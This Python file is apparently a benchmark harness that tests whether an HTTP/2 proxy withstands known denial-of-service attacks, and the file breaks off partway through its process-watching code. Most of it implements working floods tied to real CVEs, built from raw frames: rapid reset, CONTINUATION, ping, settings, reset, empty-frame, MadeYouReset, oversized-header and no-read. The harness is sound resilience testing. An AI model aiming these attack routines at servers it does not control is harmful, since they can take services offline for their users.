#!/usr/bin/env python3
"""h2attack.py — HTTP/2 (h2c, prior knowledge) abusive clients, the canary, the process watcher and
the report of Benchmarks/abuse/h2.sh.

Runs in the test-only virtual environment h2.sh makes (.build-h2attack, PyPI `h2` pinned in the
Makefile): the canary is a real HTTP/2 client (h2's H2Connection); the attackers write their
frames themselves (a 9-byte frame header and HPACK literals, checked against hpack's decoder and
hyperframe's parser by `selftest`), because an RFC-abiding state machine refuses to send what
they send, and read the target's frames with hpack's decoder. Every subcommand is bounded by
--seconds (plus a drain of at most --drain s and connect timeouts) and writes one JSON document
to --out.

Attacks (all against --target over h2c with prior knowledge, :authority --authority; several
connections at once, a connection the target ends is replaced, at most --rate new ones per
second and --max-total in all):
  rapid-reset         HEADERS (END_STREAM, GET /rr/<n>) + RST_STREAM(CANCEL), --batch pairs per
                      write, as fast as the socket takes them (CVE-2023-44487); reads.
  continuation-flood  HEADERS (GET /cf/<n>) without END_HEADERS, then CONTINUATION frames of junk
                      header fields (16 x 1000 bytes each) without end (CVE-2024-27316); reads.
  ping-flood          PING frames, 1000 per write, never reading (SO_RCVBUF --rcvbuf set before
                      connect) (CVE-2019-9512).
  settings-flood      SETTINGS frames (ENABLE_PUSH=0), 1000 per write, never reading (CVE-2019-9515).
  reset-flood         malformed requests (HEADERS END_STREAM, GET /rf/<n> with an upper-case
                      field name: RFC 9113 8.2.1, a stream error the server answers with
                      RST_STREAM), 100 per write, never reading (CVE-2019-9514).
  empty-frames        HEADERS without END_STREAM (POST /ef/<n>), then empty DATA frames on it,
                      2000 per write; a new stream when the target resets it (CVE-2019-9518); reads.
  madeyoureset        valid requests (HEADERS END_STREAM, GET /myr/<n>), each followed by a frame
                      that makes the SERVER reset the stream: WINDOW_UPDATE increment 0 on it
                      (even connections, "wu0") or an empty DATA frame after END_STREAM (odd
                      connections, "data"); --batch streams per write (CVE-2025-8671); reads.
  header-limits       one request per connection, alternately "list" (GET /hl/list/<n> with 200
                      fields of 8 KiB over CONTINUATIONs) and "field" (GET /hl/field/<n> with
                      one 66,000-byte field); records what came back for the stream (status,
                      RST_STREAM code, GOAWAY code, close) within 3 s; then a new connection.
  no-read             --conns (50) connections x --streams (100) GET /nr/<c>-<i> (a 1 MiB file),
                      SETTINGS_INITIAL_WINDOW_SIZE --window (4096), SO_RCVBUF --rcvbuf, then
                      never reads; held to the end.
The attackers that read answer the target's SETTINGS and PINGs and give DATA back to the
connection window. Those that do not read take the target's SETTINGS (the handshake) and then
read nothing until the end. At the end every connection is drained for at most --drain s
(at most 4 MiB each) to see what the target sent: GOAWAY (code, last stream), RST_STREAM codes,
response statuses, how the connection ended (eof, reset, held = still open), and whether the
target had stopped reading (our writes blocked for the last second or more).

Other subcommands:
  canary     one GET /canary every --interval s on a NEW h2c connection (h2's H2Connection), with
             an overall --timeout; ok = status 200 and body "ok\\n". --once: one request, exit 0
             when it is ok (the set-up check).
  rss        RSS (VmRSS summed over the process tree of --pid), once.
  watch      samples the tree's RSS every --interval s for --seconds; its CPU (utime + stime
             from /proc/PID/stat, summed over the tree) over that time.
  rest       sleeps --seconds, then the tree's RSS.
  metrics    the sidecar's token_sidecar_http2_* counters (and requests_total for h2, client
             connections, upstream errors) from --admin /metrics.
  backend    requests in the backend's access log from byte --from, by path prefix and status.
  report     the tables (markdown) from h2.sh's directory; exit 1 when a sidecar row fails.
  selftest   checks the frame and HPACK writers against hyperframe / hpack.
"""

import argparse
import collections
import errno
import os
import re
import selectors
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
import proxyclient  # noqa: E402  (Benchmarks/proxyclient.py)
# the HTTP/1.1 harness's, beside this file: the selector loop's connections, the canary's schedule
# and read, its statistics, reading the JSON
from attack import Connections, paced, recv_by  # noqa: E402  (Benchmarks/abuse/attack.py)
from report import canary_stats, load  # noqa: E402  (Benchmarks/abuse/report.py)

pct = proxyclient.percentile
dump = proxyclient.write_json

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING", "GOAWAY",
               "WINDOW_UPDATE", "CONTINUATION"]
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20
ERROR_NAMES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
               "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
               "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
SETTINGS_ENABLE_PUSH = 0x2
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
CONNECT_TIMEOUT = 3.0   # connect + the target's SETTINGS
DRAIN_CAP = 4 << 20     # bytes read from one connection at the end


def now():
    return time.monotonic()


def err_name(code):
    return ERROR_NAMES[code] if 0 <= code < len(ERROR_NAMES) else "0x%x" % code


def end_kind(how):
    """How a connection ended, from Engine.finish's text: eof / reset / held / us / other."""
    how = how or ""
    if how.startswith("closed by target"):
        return "eof"
    if how.startswith("held"):
        return "held"
    if how.startswith("closed by us"):
        return "us"
    if how.startswith("reset") or "while writing" in how or how.startswith("E"):
        return "reset"
    return "other"


def hostport(s):
    host, _, port = s.rpartition(":")
    return host, int(port)


# ---------------------------------------------------------------- frames and HPACK -------------

def frame(ftype, flags, sid, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, sid & 0x7FFFFFFF) + payload


def settings_frame(pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def hint(value, bits, first=0):
    """An HPACK integer with a `bits`-bit prefix; `first` holds the bits above the prefix."""
    top = (1 << bits) - 1
    if value < top:
        return bytes([first | value])
    out = bytearray([first | top])
    value -= top
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def lit(name, value):
    """Literal header field without indexing, new name (no Huffman): leaves the table alone."""
    return b"\x00" + hint(len(name), 7) + name + hint(len(value), 7) + value


def lit_idx(index, value):
    """Literal header field without indexing, name from the static table."""
    return hint(index, 4) + hint(len(value), 7) + value


def request_prefix(method, authority):
    """:method (static 2 GET / 3 POST), :scheme http (6), :authority (name 1): before :path."""
    return (b"\x82" if method == "GET" else b"\x83") + b"\x86" + lit_idx(1, authority.encode())


def path_field(path):
    return lit_idx(4, path if isinstance(path, bytes) else path.encode())


def header_frames(sid, block, end_stream, max_frame=16384):
    """HEADERS + CONTINUATION frames carrying `block`."""
    chunks = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = []
    for i, ch in enumerate(chunks):
        flags = (END_HEADERS if i == len(chunks) - 1 else 0)
        if i == 0:
            out.append(frame(HEADERS, flags | (END_STREAM if end_stream else 0), sid, ch))
        else:
            out.append(frame(CONTINUATION, flags, sid, ch))
    return b"".join(out)


# ---------------------------------------------------------------- attack connections ----------

class Conn:
    __slots__ = ("sock", "idx", "t_open", "t_ready", "t_end", "connected", "ready", "reading", "out", "rbuf",
                 "dec", "block", "goaway", "goaways", "t_goaway", "rst", "status", "frames", "sent", "recvd",
                 "streams", "sid", "end", "events", "unacked", "last_progress", "stop", "state", "done",
                 "max_frame", "variant", "drain_capped", "decode_errors", "t_eof")

    def __init__(self, sock, idx):
        import hpack
        self.sock = sock
        self.idx = idx
        self.t_open = now()
        self.t_ready = self.t_end = self.t_goaway = self.t_eof = None
        self.connected = self.ready = self.stop = self.done = False
        self.reading = True
        self.out = bytearray()
        self.rbuf = bytearray()
        self.dec = hpack.Decoder()
        self.dec.max_header_list_size = 1 << 24
        self.block = None
        self.goaway = None
        self.goaways = []
        self.rst = collections.Counter()
        self.status = collections.Counter()
        self.frames = collections.Counter()
        self.sent = self.recvd = self.streams = 0
        self.sid = 1
        self.end = None
        self.events = 0
        self.unacked = 0
        self.last_progress = self.t_open
        self.state = {}
        self.max_frame = 16384
        self.variant = None
        self.drain_capped = False
        self.decode_errors = 0


class Engine(Connections):
    END_RESET, END_EOF = "reset by target", "closed by target (eof)"

    def __init__(self, a, beh):
        super().__init__(a.target)
        self.a = a
        self.b = beh
        self.records = []
        self.start = now()
        self.deadline = self.start + a.seconds
        self.draining = False

    # -- connections
    def open(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        if self.b.rcvbuf:
            # before connect, so the window scale of the handshake stays small too
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.b.rcvbuf)
        c = Conn(s, self.opened)
        c.variant = self.b.variant(c)
        self.connect(c)

    def wanted(self, c):
        ev = 0
        if not c.connected or c.out or (c.ready and not c.stop and not self.draining and self.b.wants_fill(c)):
            ev |= selectors.EVENT_WRITE
        if c.connected and (not c.ready or c.reading or self.draining):
            ev |= selectors.EVENT_READ
        return ev

    def finish(self, c, how):
        if c.done:
            return
        c.done = True
        c.t_end = now()
        c.end = how
        if c.events:
            self.sel.unregister(c.sock)
            c.events = 0
        self.conns.pop(c.sock.fileno(), None)
        try:
            c.sock.close()
        except OSError:
            pass
        if not c.connected:
            return
        self.b.finished(c)
        self.records.append(c)

    # -- output
    def flush(self, c):
        if c.done or not c.connected:
            return
        try:
            for _ in range(16):   # then back to the loop, so reading and the other connections get a turn
                if not c.out:
                    if not (c.ready and not c.stop and not self.draining and self.b.wants_fill(c)):
                        break
                    self.b.fill(c)
                    if not c.out:
                        break
                n = c.sock.send(c.out)
                if n <= 0:
                    break
                del c.out[:n]
                c.sent += n
                c.last_progress = now()
                if c.out:
                    break   # the kernel took part of it: wait for the socket to be writable again
                if now() >= self.deadline:
                    break
        except (BlockingIOError, InterruptedError):
            pass
        except OSError as e:
            # The target closed or reset the connection while we wrote: collect what it sent.
            c.out.clear()
            self.drain_one(c, "%s while writing" % errno.errorcode.get(e.errno, str(e.errno)))
            return
        self.update(c)

    def drain_one(self, c, how):
        for _ in range(256):
            try:
                d = c.sock.recv(65536)
            except OSError:
                break
            if not d:
                break
            self.parse(c, d, reply=False)
        self.finish(c, how)

    # -- input
    def got(self, c, d):   # the data Connections.read got
        self.parse(c, d, reply=not self.draining)
        if self.draining and c.recvd >= DRAIN_CAP:
            c.drain_capped = True
            self.finish(c, "held (still open at the end)")

    def parse(self, c, d, reply):
        c.recvd += len(d)
        buf = c.rbuf
        buf += d
        pos = 0
        n = len(buf)
        reply_out = []
        while n - pos >= 9:
            ln = (buf[pos] << 16) | (buf[pos + 1] << 8) | buf[pos + 2]
            if n - pos < 9 + ln:
                break
            ftype = buf[pos + 3]
            flags = buf[pos + 4]
            sid = ((buf[pos + 5] & 0x7F) << 24) | (buf[pos + 6] << 16) | (buf[pos + 7] << 8) | buf[pos + 8]
            p0 = pos + 9
            pos = p0 + ln
            c.frames[ftype] += 1
            if ftype == DATA:
                c.unacked += ln
            elif ftype == HEADERS or ftype == CONTINUATION:
                payload = bytes(buf[p0:pos])
                if ftype == HEADERS:
                    if flags & PADDED and payload:
                        pad = payload[0]
                        payload = payload[1:len(payload) - pad]
                    if flags & PRIORITY_FLAG:
                        payload = payload[5:]
                    c.block = [sid, payload]
                elif c.block is not None:
                    c.block[1] += payload
                if flags & END_HEADERS and c.block is not None:
                    self.headers_done(c, c.block[0], c.block[1])
                    c.block = None
            elif ftype == RST_STREAM:
                code = int.from_bytes(buf[p0:p0 + 4], "big") if ln >= 4 else -1
                c.rst[code] += 1
                self.b.stream_reset(c, sid, code)
            elif ftype == SETTINGS:
                if not flags & ACK:
                    for i in range(p0, pos - 5, 6):
                        k = (buf[i] << 8) | buf[i + 1]
                        v = int.from_bytes(buf[i + 2:i + 6], "big")
                        if k == 5:
                            c.max_frame = v
                    if reply or not c.ready:
                        reply_out.append(frame(SETTINGS, ACK, 0))
                    if not c.ready:
                        c.ready = True
                        c.t_ready = now()
                        c.reading = self.b.reads
                        self.b.on_ready(c)
            elif ftype == PING:
                if not flags & ACK and reply:
                    reply_out.append(frame(PING, ACK, 0, bytes(buf[p0:pos])))
            elif ftype == GOAWAY:
                last = int.from_bytes(buf[p0:p0 + 4], "big") & 0x7FFFFFFF if ln >= 8 else -1
                code = int.from_bytes(buf[p0 + 4:p0 + 8], "big") if ln >= 8 else -1
                debug = bytes(buf[p0 + 8:min(pos, p0 + 8 + 120)]).decode("utf-8", "replace")
                if c.goaway is None:
                    c.goaway = (code, last, debug)
                    c.t_goaway = now()
                if len(c.goaways) < 4:
                    c.goaways.append(code)
                c.stop = True
                self.b.goaway(c, code, last)
        del buf[:pos]
        if reply and c.unacked >= 32768:
            reply_out.append(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", c.unacked)))
            c.unacked = 0
        if reply_out and not c.done:
            c.out += b"".join(reply_out)   # behind what waits (a partly written frame stays whole)
            self.flush(c)

    def headers_done(self, c, sid, block):
        try:
            fields = c.dec.decode(bytes(block), raw=True)
        except Exception:  # noqa: BLE001 — an undecodable block is counted, the attack goes on
            c.decode_errors += 1
            return
        for k, v in fields:
            if k == b":status":
                st = v.decode()
                c.status[st] += 1
                self.b.response(c, sid, st)
                break

    # -- connect (from Connections.on_event)
    def on_connect(self, c):
        c.out += PREFACE + settings_frame(self.b.settings())
        self.flush(c)

    def on_connect_error(self, c):
        self.finish(c, None)

    def run(self):
        next_open = self.start
        rate = max(1.0, float(self.a.rate))
        last_check = self.start
        for _ in range(200_000_000):  # bounded by the deadline below
            t = now()
            if t >= self.deadline:
                break
            while t >= next_open and len(self.conns) < self.a.conns and self.opened < self.a.max_total:
                self.open()
                next_open += 1.0 / rate
            if next_open < t - 0.05:
                next_open = t - 0.05   # do not bank openings for a later burst
            for key, mask in self.sel.select(max(0.0, min(0.05, self.deadline - t))):
                self.on_event(key.data, mask)
            t = now()
            if t - last_check >= 0.1:
                last_check = t
                for c in list(self.conns.values()):
                    if not c.ready and t - c.t_open > CONNECT_TIMEOUT:
                        if not c.connected:
                            self.connect_errors["connect timeout"] += 1
                        self.finish(c, "no SETTINGS from the target within %.0f s" % CONNECT_TIMEOUT)
                    elif c.stop and c.t_goaway is not None and t - c.t_goaway > 1.0:
                        self.finish(c, "closed by us 1 s after GOAWAY")
                    elif c.state.get("close_at") and t >= c.state["close_at"]:
                        self.finish(c, "closed by us (answer in)")
                    elif not c.done:
                        self.b.tick(c, t)
        return self.drain()

    def drain(self):
        """What the target sent that nobody read yet: at most --drain s, DRAIN_CAP per connection."""
        self.draining = True
        t_end = now()
        blocked = []
        for c in list(self.conns.values()):
            if c.out or (c.ready and not c.stop and self.b.wants_fill(c)):
                blocked.append(round(t_end - c.last_progress, 2))
            c.out.clear()
            self.update(c)
        end = t_end + self.a.drain
        quiet_since = now()
        for _ in range(1_000_000):
            t = now()
            if not self.conns or t >= end or t - quiet_since > 0.3:
                break
            events = self.sel.select(max(0.0, min(0.05, end - t)))
            if events:
                quiet_since = now()
            for key, mask in events:
                c = key.data
                if not c.done and mask & selectors.EVENT_READ:
                    self.read(c)
        for c in list(self.conns.values()):
            self.finish(c, "held (still open at the end)" if c.ready else "no SETTINGS from the target")
        return self.summary(blocked)

    def summary(self, blocked):
        recs = self.records
        goaway = collections.Counter()
        ends = collections.Counter()
        rst = collections.Counter()
        status = collections.Counter()
        frames = collections.Counter()
        variants = collections.defaultdict(lambda: collections.Counter())
        for c in recs:
            ends[c.end] += 1
            if c.goaway:
                goaway[err_name(c.goaway[0])] += 1
            for k, v in c.rst.items():
                rst[err_name(k)] += v
            status.update(c.status)
            for k, v in c.frames.items():
                frames[FRAME_NAMES[k] if k < len(FRAME_NAMES) else "type%d" % k] += v
            if c.variant:
                vv = variants[c.variant]
                vv["connections"] += 1
                vv["goaway " + (err_name(c.goaway[0]) if c.goaway else "none")] += 1
                for k, v in c.rst.items():
                    vv["RST_STREAM " + err_name(k)] += v
                for k, v in c.status.items():
                    vv["status " + k] += v
        # Judged: connections that got a GOAWAY, that the target ended, or that were up at least 1 s
        # (one opened in the last instants of the attack had no time to be judged). Without a
        # GOAWAY: "reset" (the target reset it: for an attacker that does not read, a GOAWAY sent
        # before the reset is discarded with the connection, unseen), "eof" (closed by the target
        # without one), "held" (still open at the end), "us" (we closed it).
        judged = [c for c in recs if c.t_ready is not None and
                  (c.goaway is not None or end_kind(c.end) in ("reset", "eof") or (c.t_end - c.t_ready) >= 1.0)]
        no_goaway = collections.Counter(end_kind(c.end) for c in judged if c.goaway is None)
        first = []
        for c in recs[:12]:
            first.append({"idx": c.idx, "variant": c.variant, "opened_s": round(c.t_open - self.start, 3),
                          "lived_s": round(c.t_end - c.t_open, 3), "end": c.end, "sent": c.sent, "recvd": c.recvd,
                          "streams": c.streams,
                          "goaway": None if not c.goaway else {"code": err_name(c.goaway[0]), "last_stream": c.goaway[1],
                                                                "debug": c.goaway[2],
                                                                "after_s": round(c.t_goaway - c.t_open, 3)},
                          "goaways": [err_name(x) for x in c.goaways],
                          "rst": {err_name(k): v for k, v in c.rst.items()}, "status": dict(c.status)})
        first_goaway = [round(c.t_goaway - c.t_ready, 3) for c in recs if c.t_goaway and c.t_ready]
        out = {
            "attack": self.b.name, "seconds": self.a.seconds, "opened": self.opened, "max_open": self.max_open,
            "connect_errors": dict(self.connect_errors), "connections": len(recs),
            "judged": len(judged), "judged_without_goaway": sum(no_goaway.values()),
            "judged_without_goaway_by_end": dict(no_goaway), "reads": self.b.reads,
            "goaway": dict(goaway), "goaway_after_s": {"p50": pct(first_goaway, 50), "max": max(first_goaway)}
            if first_goaway else None,
            "ends": dict(ends), "rst_stream": dict(rst), "status": dict(status), "frames_received": dict(frames),
            "streams": sum(c.streams for c in recs), "bytes_sent": sum(c.sent for c in recs),
            "bytes_received": sum(c.recvd for c in recs),
            "writes_blocked_at_end": {"connections": sum(1 for b in blocked if b >= 1.0), "of": len(blocked),
                                      "max_s": max(blocked) if blocked else 0},
            "drain_capped": sum(1 for c in recs if c.drain_capped),
            "decode_errors": sum(c.decode_errors for c in recs),
            "first_connections": first,
        }
        if variants:
            out["variants"] = {k: dict(v) for k, v in variants.items()}
        out.update(self.b.extra())
        return out


# ---------------------------------------------------------------- behaviours ------------------

class Behaviour:
    name = "?"
    reads = True
    rcvbuf = 0

    def __init__(self, a):
        self.a = a
        self.prefix = request_prefix("GET", a.authority)
        self.n = 0

    def settings(self):
        return [(SETTINGS_ENABLE_PUSH, 0)]

    def variant(self, c):
        return None

    def on_ready(self, c):
        pass

    def wants_fill(self, c):
        return False

    def fill(self, c):
        pass

    def stream_reset(self, c, sid, code):
        pass

    def response(self, c, sid, status):
        pass

    def goaway(self, c, code, last):
        pass

    def tick(self, c, t):
        pass

    def finished(self, c):
        pass

    def extra(self):
        return {}

    def next_sid(self, c):
        sid = c.sid
        c.sid += 2
        c.streams += 1
        if c.sid > 0x7FFFFF00:
            c.stop = True
        return sid


class RapidReset(Behaviour):
    name = "rapid-reset"
    CANCEL = struct.pack(">I", 8)

    def wants_fill(self, c):
        return True

    def fill(self, c):
        parts = []
        for _ in range(self.a.batch):
            sid = self.next_sid(c)
            self.n += 1
            parts.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, self.prefix + path_field(b"/rr/%d" % self.n)))
            parts.append(frame(RST_STREAM, 0, sid, self.CANCEL))
        c.out += b"".join(parts)


class ContinuationFlood(Behaviour):
    name = "continuation-flood"

    def __init__(self, a):
        super().__init__(a)
        fields = b"".join(lit(b"x-junk-%02d" % i, b"j" * 1000) for i in range(16))
        self.payload = fields   # 16,224 bytes: within the default 16,384-byte frame size

    def on_ready(self, c):
        sid = self.next_sid(c)
        self.n += 1
        c.state["sid"] = sid
        c.out += frame(HEADERS, END_STREAM, sid, self.prefix + path_field(b"/cf/%d" % self.n))

    def wants_fill(self, c):
        return "sid" in c.state

    def fill(self, c):
        f = frame(CONTINUATION, 0, c.state["sid"], self.payload[:c.max_frame])
        c.out += f * 4


class NeverReads(Behaviour):
    """An attacker that reads nothing after the handshake, with SO_RCVBUF --rcvbuf."""
    reads = False

    def __init__(self, a):
        super().__init__(a)
        self.rcvbuf = a.rcvbuf


class Flood(NeverReads):
    """ping-flood / settings-flood: one pre-built batch, written again and again, never reading."""

    def __init__(self, a, name, one):
        super().__init__(a)
        self.name = name
        self.batch = one * 1000

    def wants_fill(self, c):
        return True

    def fill(self, c):
        c.out += self.batch


class ResetFlood(NeverReads):
    name = "reset-flood"

    def __init__(self, a):
        super().__init__(a)
        self.bad = lit(b"X-Upper-Case", b"1")

    def wants_fill(self, c):
        return True

    def fill(self, c):
        parts = []
        for _ in range(100):
            sid = self.next_sid(c)
            self.n += 1
            parts.append(frame(HEADERS, END_STREAM | END_HEADERS, sid,
                               self.prefix + path_field(b"/rf/%d" % self.n) + self.bad))
        c.out += b"".join(parts)


class EmptyFrames(Behaviour):
    name = "empty-frames"

    def __init__(self, a):
        super().__init__(a)
        self.post = request_prefix("POST", a.authority)
        self.streams_reset = 0

    def open_stream(self, c):
        sid = self.next_sid(c)
        self.n += 1
        c.state["sid"] = sid
        c.state["batch"] = frame(DATA, 0, sid) * 2000
        c.out += frame(HEADERS, END_HEADERS, sid, self.post + path_field(b"/ef/%d" % self.n) +
                       lit(b"content-type", b"application/octet-stream"))

    def on_ready(self, c):
        self.open_stream(c)

    def wants_fill(self, c):
        return True

    def fill(self, c):
        if c.state.get("reset"):
            c.state["reset"] = False
            self.open_stream(c)
        c.out += c.state["batch"]

    def stream_reset(self, c, sid, code):
        if sid == c.state.get("sid"):
            c.state["reset"] = True
            self.streams_reset += 1

    def extra(self):
        return {"streams_reset_by_target": self.streams_reset}


class MadeYouReset(Behaviour):
    name = "madeyoureset"

    def variant(self, c):
        return "wu0" if c.idx % 2 == 0 else "data"

    def wants_fill(self, c):
        return True

    def fill(self, c):
        parts = []
        wu0 = c.variant == "wu0"
        for _ in range(self.a.batch):
            sid = self.next_sid(c)
            self.n += 1
            parts.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, self.prefix + path_field(b"/myr/%d" % self.n)))
            parts.append(frame(WINDOW_UPDATE, 0, sid, b"\0\0\0\0") if wu0 else frame(DATA, 0, sid))
        c.out += b"".join(parts)


class HeaderLimits(Behaviour):
    name = "header-limits"
    TIMEOUT = 3.0

    def __init__(self, a):
        super().__init__(a)
        self.list_fields = b"".join(lit(b"x-big-%03d" % i, b"v" * (8192 - 12)) for i in range(200))
        self.big_field = lit(b"x-huge", b"h" * 66000)
        self.outcomes = {"list": collections.Counter(), "field": collections.Counter()}
        self.samples = {"list": [], "field": []}
        self.k = 0

    def variant(self, c):
        self.k += 1
        return "list" if self.k % 2 else "field"

    def on_ready(self, c):
        self.n += 1
        if c.variant == "list":
            block = self.prefix + path_field(b"/hl/list/%d" % self.n) + self.list_fields
        else:
            block = self.prefix + path_field(b"/hl/field/%d" % self.n) + self.big_field
        c.state["sid"] = self.next_sid(c)
        c.state["t"] = now()
        c.out += header_frames(c.state["sid"], block, True, min(16384, c.max_frame))

    def outcome(self, c, what):
        if "outcome" in c.state:
            return
        c.state["outcome"] = what
        self.outcomes[c.variant][what] += 1
        if len(self.samples[c.variant]) < 3:
            self.samples[c.variant].append({"outcome": what, "after_s": round(now() - c.state.get("t", now()), 3),
                                            "sent": c.sent, "goaway_debug": c.goaway[2] if c.goaway else None})
        c.stop = True
        c.state["close_at"] = now() + 0.3   # a GOAWAY after the answer is still seen

    def response(self, c, sid, status):
        if sid == c.state.get("sid"):
            self.outcome(c, "status " + status)

    def stream_reset(self, c, sid, code):
        if sid == c.state.get("sid"):
            self.outcome(c, "RST_STREAM " + err_name(code))

    def goaway(self, c, code, last):
        self.outcome(c, "GOAWAY " + err_name(code))

    def tick(self, c, t):
        if "outcome" not in c.state and "t" in c.state and t - c.state["t"] > self.TIMEOUT:
            self.outcome(c, "no answer within %.0f s" % self.TIMEOUT)

    def finished(self, c):
        if c.ready and "outcome" not in c.state:
            self.outcome(c, "connection ended (%s)" % c.end)

    def extra(self):
        got_2xx = sum(v for kind in self.outcomes.values() for k, v in kind.items() if re.match(r"status 2", k))
        return {"outcomes": {k: dict(v) for k, v in self.outcomes.items()}, "samples": self.samples,
                "requests": sum(sum(v.values()) for v in self.outcomes.values()), "got_2xx": got_2xx,
                "list_bytes": len(self.list_fields), "field_bytes": len(self.big_field)}


class NoRead(NeverReads):
    name = "no-read"

    def settings(self):
        return [(SETTINGS_ENABLE_PUSH, 0), (SETTINGS_INITIAL_WINDOW_SIZE, self.a.window)]

    def on_ready(self, c):
        parts = []
        for i in range(self.a.streams):
            sid = self.next_sid(c)
            parts.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, self.prefix + path_field(b"/nr/%d-%d" % (c.idx, i))))
        c.out += b"".join(parts)


def attack(a):
    if a.cmd == "ping-flood":
        b = Flood(a, "ping-flood", frame(PING, 0, 0, b"abusepng"))
    elif a.cmd == "settings-flood":
        b = Flood(a, "settings-flood", settings_frame([(SETTINGS_ENABLE_PUSH, 0)]))
    else:
        b = {"rapid-reset": RapidReset, "continuation-flood": ContinuationFlood, "reset-flood": ResetFlood,
             "empty-frames": EmptyFrames, "madeyoureset": MadeYouReset, "header-limits": HeaderLimits,
             "no-read": NoRead}[a.cmd](a)
    e = Engine(a, b)
    out = e.run()
    out["settings_sent"] = {str(k): v for k, v in b.settings()}
    out["rcvbuf"] = b.rcvbuf
    dump(a.out, out)


# ---------------------------------------------------------------- canary ----------------------

def canary_once(host, port, authority, timeout):
    """One GET /canary on a new h2c connection: (ok, detail)."""
    import h2.config
    import h2.connection
    import h2.events
    deadline = now() + timeout
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    status, body, ended = None, bytearray(), False
    with socket.create_connection((host, port), timeout=timeout) as s:
        conn.initiate_connection()
        conn.send_headers(1, [(":method", "GET"), (":scheme", "http"), (":authority", authority),
                              (":path", "/canary"), ("user-agent", "h2-canary")], end_stream=True)
        s.sendall(conn.data_to_send())
        for _ in range(10_000):
            d = recv_by(s, deadline, timeout)
            if not d:
                return False, "connection closed (status %s, %d body bytes)" % (status, len(body))
            for ev in conn.receive_data(d):
                if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == 1:
                    status = dict(ev.headers).get(b":status", b"?").decode()
                elif isinstance(ev, h2.events.DataReceived) and ev.stream_id == 1:
                    body += ev.data
                    conn.acknowledge_received_data(ev.flow_controlled_length, 1)
                elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == 1:
                    ended = True
                elif isinstance(ev, h2.events.StreamReset) and ev.stream_id == 1:
                    return False, "RST_STREAM %s" % err_name(int(ev.error_code))
                elif isinstance(ev, h2.events.ConnectionTerminated):
                    return False, "GOAWAY %s" % err_name(int(ev.error_code))
            if ended:
                try:   # a polite GOAWAY; the answer is complete whatever happens to it
                    conn.close_connection()
                    s.sendall(conn.data_to_send())
                except OSError:
                    pass
                break
            out = conn.data_to_send()
            if out:
                s.sendall(out)
    if status != "200":
        return False, "status %s" % status
    if bytes(body) != b"ok\n":
        return False, "200 with unexpected body %r" % bytes(body[:20])
    return True, ""


def canary_try(host, port, authority, timeout):
    """canary_once, any exception a failure: (ok, detail)."""
    try:
        return canary_once(host, port, authority, timeout)
    except Exception as e:  # noqa: BLE001 — socket.timeout, resets, protocol errors: all failures
        return False, "%s: %s" % (type(e).__name__, e)


def canary(a):
    host, port = hostport(a.target)
    if a.once:
        ok, detail = canary_try(host, port, a.authority, a.timeout)
        print("ok" if ok else detail)
        sys.exit(0 if ok else 1)
    # one untimed request first: the first one pays for python's lazy set-up
    canary_try(host, port, a.authority, a.timeout)
    samples = paced(a.seconds, a.interval, lambda: canary_try(host, port, a.authority, a.timeout))
    dump(a.out, {"samples": samples, "interval": a.interval, "timeout": a.timeout, "transport": "h2c, new connection each"})


# ---------------------------------------------------------------- process observation ---------

def tree(pid):
    """pid and its descendants (from /proc/*/stat)."""
    kids = collections.defaultdict(list)
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open("/proc/%s/stat" % d) as f:
                ppid = int(f.read().rpartition(")")[2].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        kids[ppid].append(int(d))
    out, todo = [], [pid]
    while todo:
        p = todo.pop()
        if os.path.isdir("/proc/%d" % p):
            out.append(p)
            todo.extend(kids.get(p, []))
    return out


def rss_kib(pids):
    total, alive = 0, False
    for p in pids:
        try:
            with open("/proc/%d/status" % p) as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        total += int(line.split()[1])
                        alive = True
                        break
        except OSError:
            pass
    return total if alive else None


def cpu_s(pids):
    tot = 0.0
    for p in pids:
        try:
            with open("/proc/%d/stat" % p) as f:
                fields = f.read().rpartition(")")[2].split()
            tot += (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
        except (OSError, ValueError, IndexError):
            pass
    return tot


def cmd_rss(a):
    pids = tree(a.pid)
    dump(a.out, {"rss_kib": rss_kib(pids), "pids": pids, "alive": os.path.isdir("/proc/%d" % a.pid)})


def cmd_watch(a):
    t0 = now()
    end = t0 + a.seconds
    pids = tree(a.pid)
    cpu0 = cpu_s(pids)
    first = rss_kib(pids)
    peak, n = first or 0, 0
    died = False
    for _ in range(int(a.seconds / a.interval) + 2):
        if now() >= end:
            break
        time.sleep(max(0.0, min(a.interval, end - now())))
